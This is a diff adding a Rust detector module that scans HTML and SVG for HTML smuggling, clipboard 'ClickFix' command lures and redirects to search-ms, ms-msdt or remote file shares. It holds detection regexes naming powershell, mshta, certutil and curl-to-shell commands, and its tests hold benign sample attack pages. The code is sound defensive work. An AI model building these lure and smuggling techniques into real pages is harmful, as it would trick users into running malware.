@@ -1,0 +1,300 @@
+//! What a page would do: assemble a file, put a command on the clipboard, lead to a remote share.
+
+use crate::text::{cut, decode, excerpt, normalise, patterns};
+use crate::{DetectError, Detector, Findings};
+use data_encoding::BASE64;
+use lazaret_model::{Family, Finding, Part, Severity};
+
+const ID: &str = "pages";
+/// Script beyond which a page is taken to carry libraries, which hold every pattern sooner or later.
+const SMALL: usize = 64 << 10;
+/// Characters of Base64 that are a file and not a token.
+const LARGE: usize = 1 << 10;
+/// Literals of Base64 that are decoded to look for commands.
+const MOST_LITERALS: usize = 64;
+
+patterns! {
+    SCRIPT = r"(?is)<(?:[a-z]{1,20}:)?script\b(?P<tag>(?:[^<>\x22']|\x22[^\x22]*\x22|'[^']*')*)>(?P<code>.*?)(?:</(?:[a-z]{1,20}:)?script|\z)";
+    TAG = r"(?is)<[a-z](?:[^<>\x22']|\x22[^\x22]*\x22|'[^']*')*>";
+    HANDLER = r"(?is)[\s\x22'/](?:on[a-z]{3,24}|(?:xlink:)?href|action|src)\s*=\s*(?P<value>\x22[^\x22]*\x22|'[^']*'|[^\s>\x22']+)";
+    ENTITY = r"(?i)&(?:#x(?P<x>[0-9a-f]{1,6})|#(?P<d>[0-9]{1,7})|(?P<n>quot|apos|lt|gt|amp|colon|lpar|rpar|tab|newline));";
+    LITERAL = r"[\x22'`>,]([A-Za-z0-9+/]{16,}={0,2})[\x22'`<]";
+
+    BLOB = r"new\s+blob\s*\(|new\s+file\s*\(|createobjecturl|mssaveblob|mssaveoropenblob|showsavefilepicker";
+    HAND_OVER = r"mssaveblob|mssaveoropenblob|\.download\s*=|setattribute\s*\(\s*.download|\.click\s*\(|location(?:\.href)?\s*=|createobjecturl|saveas\s*\(|showsavefilepicker";
+    DECODES = r"\batob\s*\(|uint8array|charcodeat|fromcharcode|\.frombase64\b|;base64,";
+    PROGRAM_DATA = r#"data:application/(?:octet-stream|zip|x-msdownload|x-msdos-program|x-zip-compressed|x-7z-compressed|x-rar[a-z-]*|vnd\.rar|x-iso9660-image|hta|java-archive|vnd\.ms-[a-z.-]*macro[a-z.0-9]*|x-ms[a-z-]*|x-dosexec)[^"'\s,]{0,60}[,]"#;
+    DOWNLOAD_DATA = r#"(?is)<a\b[^<>]*(?:\sdownload\b[^<>]*href\s*=\s*["']?\s*data:(?:application|text/html|image/svg)|href\s*=\s*["']?\s*data:application/[^<>]*\sdownload\b)"#;
+
+    CLIPBOARD = r"clipboard\s*(?:\??\.|\[\s*.)write(?:text)?\b|execcommand\s*\(\s*.copy|setdata\s*\(\s*.text(?:/plain)?|clipboarddata\s*\.\s*setdata|new\s+clipboarditem";
+    COMMAND = r#"(?:powershell|pwsh)(?:\.exe)?["']?\s+(?:[-/]\w|["'(&$]|\w*(?:iex|iwr|irm|echo|start|invoke)\b)[^\r\n]{0,160}|\bmshta(?:\.exe)?\s+["']?(?:https?:|vbscript:|javascript:|\\\\)[^\r\n]{0,120}|\bcmd(?:\.exe)?\s+/[ckv][^\r\n]{0,160}|\biex\s*[("'(]+\s*(?:iwr|irm|curl|new-object|invoke-)[^\r\n]{0,120}|\b(?:irm|iwr)\s[^\r\n"']{1,160}\|\s*iex|\bmsiexec(?:\.exe)?\s+[^\r\n"']{0,40}https?:[^\r\n]{0,80}|\brundll32(?:\.exe)?\s+\\\\[^\r\n]{0,120}|\bosascript\s+-e[^\r\n]{0,120}|\bconhost(?:\.exe)?\s+[^\r\n]{0,120}|\bcertutil(?:\.exe)?\s+-[^\r\n]{0,120}"#;
+    UNIX = r"(?:curl|wget)\s[^|\r\n]{1,200}\|\s*(?:sudo\s+)?(?:ba|z)?sh\b|(?:ba|z)?sh\s+-c\s+.{0,3}\$\((?:curl|wget)[^\r\n]{0,120}|base64\s+(?:-d|--decode)\s*\|\s*(?:ba|z)?sh";
+    LURE = r"win(?:dows)?(?:\s|<[^<>]{0,80}>|&nbsp;|key|button|logo|\(|\)){0,12}(?:\+|plus|&plus;)(?:\s|<[^<>]{0,80}>|&nbsp;){0,12}[rx]\b|run\s+(?:dialog|box|window)|(?:open|press|in)\s+(?:the\s+|a\s+)?terminal|verify\s+(?:that\s+)?you\s+are\s+(?:a\s+)?human|not\s+a\s+robot|verification\s+steps|ctrl(?:\s|<[^<>]{0,80}>){0,12}\+(?:\s|<[^<>]{0,80}>){0,12}v\b";
+
+    LEADS_ON = r"location\b|\bfetch\s*\(|\batob\s*\(|xmlhttprequest|window\s*\.\s*open|\beval\s*\(|document\s*\.\s*write|\.src\s*=|createelement|fromcharcode|insertadjacenthtml";
+    FOREIGN_PAGE = r"(?s)<(?:\w+:)?foreignobject\b.*?<(?:\w+:)?(?:iframe|form|embed|object|meta)\b";
+    SEARCH = r"search(?:-ms)?:(?:[^\s<>]{0,300}(?:crumb|location)|//?query)[^\s<>]{0,160}|search-ms:[^\s<>]{1,160}";
+    DIAGNOSTIC = r"ms-msdt:[^<>]{0,160}";
+    SHARE = r#"<meta\b[^<>]*refresh[^<>]*url\s*=\s*["']?\s*file:[^<>]{0,160}|(?:location(?:\.href)?\s*=|location\.(?:replace|assign)\s*\(|window\.open\s*\()\s*["']file:[^\r\n]{0,160}|<(?:iframe|img|embed|object|link|script)\b[^<>]*(?:src|data|href)\s*=\s*["']?\s*(?:file:/{2,5}[a-z0-9.-]*[a-z][a-z0-9.-]*\.[a-z0-9-]{2,}[/@:\\]|\\\\[a-z0-9])[^<>]{0,160}"#;
+}
+
+/// Pages, pictures with scripts, HTML applications.
+pub(crate) struct Pages;
+
+impl Detector for Pages {
+    fn id(&self) -> &'static str {
+        ID
+    }
+
+    fn summary(&self) -> &'static str {
+        "pages that assemble a file, copy a command to the clipboard or lead to a remote share, pictures with scripts"
+    }
+
+    fn wants(&self, part: &Part) -> bool {
+        ["html", "svg", "hta", "mht", "xml"].iter().any(|kind| part.is(kind))
+    }
+
+    fn inspect(&self, part: &Part, bytes: &[u8], _offset: u64, findings: &mut Findings) -> Result<(), DetectError> {
+        let text = decode(bytes);
+        let page = Page::of(&text);
+        smuggles(&page, findings);
+        copies_command(&page, findings);
+        leads_to_share(&page, findings);
+        if part.is("svg") && (page.handlers || page.scripts) {
+            let leads = excerpt(&LEADS_ON, &page.plain).or_else(|| excerpt(&FOREIGN_PAGE, &page.markup));
+            let severity = if leads.is_some() { Severity::Medium } else { Severity::Low };
+            let value = leads.unwrap_or_else(|| page.plain.clone());
+            let message = "the picture carries a script";
+            findings.add(finding("page.script-in-image", severity, message, &value).technique("T1027.017"));
+        }
+        Ok(())
+    }
+}
+
+/// A page taken apart: what runs, and what is shown.
+struct Page {
+    /// Scripts and handlers as written.
+    code: String,
+    /// The same, normalised.
+    plain: String,
+    /// The tags, lower case, without text between them; text never counts as code.
+    tags: String,
+    /// Everything outside scripts, lower case.
+    markup: String,
+    scripts: bool,
+    handlers: bool,
+}
+
+impl Page {
+    fn of(text: &str) -> Self {
+        let mut code = String::new();
+        for script in SCRIPT.captures_iter(text) {
+            let body = script.name("code").map_or("", |m| m.as_str());
+            code.push_str(&without_entities(body));
+            code.push('\n');
+        }
+        let scripts = SCRIPT.is_match(text);
+        let markup = SCRIPT.replace_all(text, "<script$tag>");
+        let (mut tags, mut handlers) = (String::new(), false);
+        for tag in TAG.find_iter(&markup) {
+            tags.push_str(&without_entities(tag.as_str()).to_ascii_lowercase());
+            tags.push('\n');
+            for handler in HANDLER.captures_iter(tag.as_str()) {
+                let value = handler.name("value").map_or("", |m| m.as_str()).trim_matches(['"', '\'']);
+                let value = without_entities(value);
+                let name = handler.get(0).map_or("", |m| m.as_str()).trim_start_matches(['"', '\'', '/', ' ', '\n']);
+                let runs = name.get(..2).is_some_and(|on| on.eq_ignore_ascii_case("on"));
+                let address = value.trim_start().get(..11).is_some_and(|s| s.eq_ignore_ascii_case("javascript:"));
+                if runs || address {
+                    handlers = true;
+                    code.push_str(&value);
+                    code.push('\n');
+                }
+            }
+        }
+        let plain = normalise(&code);
+        Self { plain, code, tags, markup: markup.to_ascii_lowercase(), scripts, handlers }
+    }
+}
+
+/// A file that the page holds as text and hands to the browser as a download.
+fn smuggles(page: &Page, findings: &mut Findings) {
+    let literals = || LITERAL.captures_iter(&page.code).filter_map(|c| c.get(1)).map(|m| m.as_str());
+    let files = [
+        "TVqQ", "TVpQ", "TVoA", "TVpA", "UEsDB", "UmFyI", "N3q8", "0M8R4KG", "TVNDRg", "WDVPIVAl", "AQAAAA8A",
+        "TAAAAAEU",
+    ];
+    let program = literals().find(|l| files.iter().any(|start| l.starts_with(start)));
+    let longest = literals().map(str::len).max().unwrap_or(0);
+    let file = literals().any(|l| l.len() >= 40 && l.len() % 4 == 0);
+    let hands_over = BLOB.is_match(&page.plain) && HAND_OVER.is_match(&page.plain);
+    let decodes = DECODES.is_match(&page.plain);
+    let small = page.code.len() < SMALL + longest;
+    let program_data = excerpt(&PROGRAM_DATA, &page.plain).filter(|_| HAND_OVER.is_match(&page.plain));
+    let (severity, value) = if let Some(value) = excerpt(&DOWNLOAD_DATA, &page.tags).or(program_data) {
+        (Severity::High, value)
+    } else if hands_over && decodes {
+        let value = excerpt(&HAND_OVER, &page.plain).unwrap_or_default();
+        let sure = program.is_some() || small && (file || longest >= LARGE);
+        (if sure { Severity::High } else { Severity::Low }, program.map_or(value, str::to_owned))
+    } else {
+        return;
+    };
+    let message = "the page assembles a file out of its own text and hands it over as a download";
+    findings.add(finding("page.html-smuggling", severity, message, &value).technique("T1027.006"));
+}
+
+/// A command that the page puts on the clipboard for people to paste and run.
+fn copies_command(page: &Page, findings: &mut Findings) {
+    if !CLIPBOARD.is_match(&page.plain) {
+        return;
+    }
+    let mut code = page.plain.clone();
+    for literal in LITERAL.captures_iter(&page.code).filter_map(|c| c.get(1)).take(MOST_LITERALS) {
+        if let Ok(bytes) = BASE64.decode(literal.as_str().as_bytes()) {
+            code.push('\n');
+            code.push_str(&normalise(&decode(&bytes)));
+        }
+    }
+    let lure = excerpt(&LURE, &page.markup).or_else(|| excerpt(&LURE, &page.plain));
+    let shown = || lure.is_some().then(|| excerpt(&COMMAND, &page.markup).or_else(|| excerpt(&UNIX, &page.markup)));
+    let (severity, value) = match excerpt(&COMMAND, &code).or_else(|| shown().flatten()) {
+        Some(value) => (Severity::High, value),
+        None => match excerpt(&UNIX, &code) {
+            // Manuals of honest programs offer such lines to copy, too.
+            Some(value) if lure.is_none() => (Severity::Medium, value),
+            Some(value) => (Severity::High, value),
+            None => return,
+        },
+    };
+    let message = "the page copies a command to the clipboard, for people to paste and run";
+    let mut found = finding("page.click-fix", severity, message, &value).technique("T1204.004");
+    if let Some(words) = lure {
+        found = found.with("words", cut(&words));
+    }
+    findings.add(found);
+}
+
+fn leads_to_share(page: &Page, findings: &mut Findings) {
+    let either = |pattern| excerpt(pattern, &page.tags).or_else(|| excerpt(pattern, &page.plain));
+    let (severity, value, message) = if let Some(value) = either(&DIAGNOSTIC) {
+        (Severity::High, value, "the page opens the Windows diagnostic tool with arguments of its own")
+    } else if let Some(value) = either(&SEARCH) {
+        (Severity::Medium, value, "the page opens a Windows search of a place of its choice")
+    } else if let Some(value) = either(&SHARE) {
+        (Severity::Medium, value, "the page leads to a file share by itself")
+    } else {
+        return;
+    };
+    findings.add(finding("page.search-ms", severity, message, &value).technique("T1187"));
+}
+
+fn finding(id: &'static str, severity: Severity, message: &str, value: &str) -> Finding {
+    Finding::new(id, ID, severity, Family::Behaviour, message).with("value", cut(value))
+}
+
+fn without_entities(text: &str) -> String {
+    let replaced = ENTITY.replace_all(text, |found: &regex::Captures<'_>| {
+        let code = |name, radix| found.name(name).and_then(|m| u32::from_str_radix(m.as_str(), radix).ok());
+        if let Some(code) = code("x", 16).or_else(|| code("d", 10)) {
+            return char::from_u32(code).map(String::from).unwrap_or_default();
+        }
+        let name = found.name("n").map(|m| m.as_str().to_ascii_lowercase());
+        match name.as_deref() {
+            Some("quot") => "\"",
+            Some("apos") => "'",
+            Some("lt") => "<",
+            Some("gt") => ">",
+            Some("amp") => "&",
+            Some("colon") => ":",
+            Some("lpar") => "(",
+            Some("rpar") => ")",
+            _ => "",
+        }
+        .to_owned()
+    });
+    replaced.into_owned()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::Pages;
+    use crate::detectors::test_part::check;
+
+    const SMUGGLES: &str = "page.html-smuggling high";
+    const COPIES: &str = "page.click-fix high";
+
+    #[test]
+    fn pages_are_judged_by_what_they_would_do() {
+        let file = "WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FS";
+        let smuggle = format!(
+            "<html><script>var b = new Blob([atob('{file}')]); a.href = URL.createObjectURL(b); a.download = 'a.com'; a.click()</script>"
+        );
+        let old =
+            format!("<html><body onload=\"navigator.msSaveOrOpenBlob(new Blob([atob(&quot;{file}&quot;)]), 'a')\">");
+        for (kind, text, expected) in [
+            ("html", smuggle.as_str(), &[SMUGGLES][..]),
+            ("html", old.as_str(), &[SMUGGLES]),
+            ("html", "<a download='a.zip' href='data:application/zip;base64,UEsFBg=='>x</a>", &[SMUGGLES]),
+            (
+                "html",
+                "Press Win + R <script>navigator.clipboard.writeText('power' + 'shell -c echo')</script>",
+                &[COPIES],
+            ),
+            (
+                "html",
+                "<button onclick=\"navigator.clipboard.writeText('mshta https://host.invalid/a')\">x</button>",
+                &[COPIES],
+            ),
+            ("html", "<script>navigator.clipboard.writeText(atob('cG93ZXJzaGVsbCAtYyBlY2hv'))</script>", &[COPIES]),
+            (
+                "html",
+                "verify you are human<pre id=c>cmd /c echo</pre><script>c.select();document.execCommand('copy')</script>",
+                &[COPIES],
+            ),
+            ("svg", "<svg><script>document.title = 'x'</script></svg>", &["page.script-in-image low"]),
+            ("svg", "<svg onload=\"window.location='https://host.invalid'\"/>", &["page.script-in-image medium"]),
+            (
+                "html",
+                "<script>location.href='search-ms:query=a&crumb=location:\\\\host.invalid\\s'</script>",
+                &["page.search-ms medium"],
+            ),
+            ("html", "<script>window.location.href = 'ms-msdt:/id PCWDiagnostic'</script>", &["page.search-ms high"]),
+            ("html", "<meta http-equiv=refresh content='0;url=file://host.invalid/s/a'>", &["page.search-ms medium"]),
+        ] {
+            check(&Pages, kind, text, expected);
+        }
+    }
+
+    #[test]
+    fn pages_that_mention_it_are_left_alone() {
+        for (kind, text) in [
+            (
+                "html",
+                "<p>Use <code>atob('WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FS')</code>, new Blob( and a.download = in JavaScript; ms-msdt: and search-ms:query=a&crumb=b are handlers.</p>",
+            ),
+            ("html", "<p>Press Win+R, run cmd /c dir</p><pre>powershell -c echo</pre>"),
+            (
+                "html",
+                "<pre>curl https://host.invalid | sh</pre><script>navigator.clipboard.writeText(pre.textContent)</script>",
+            ),
+            (
+                "html",
+                "<script>hljs.register(['powershell', 'bash', 'cmd']); navigator.clipboard.writeText(code.innerText)</script>",
+            ),
+            (
+                "html",
+                "<script>const u = URL.createObjectURL(new Blob([text], {type: 'text/csv'})); a.download = 'a.csv'</script>",
+            ),
+            (
+                "html",
+                "<a href='data:text/plain,hello' download='a.txt'>x</a><a href='file:///usr/share/doc/x.html'>y</a>",
+            ),
+            ("html", "<pre>&lt;a onclick=\"navigator.clipboard.writeText('mshta https://host.invalid')\"&gt;</pre>"),
+            ("svg", "<svg><title>script onload=</title><path d='M0 0'/></svg>"),
+            ("xml", "<list><item>search-ms:query=a&amp;crumb=b</item></list>"),
+        ] {
+            check(&Pages, kind, text, &[]);
+        }
+    }
+}
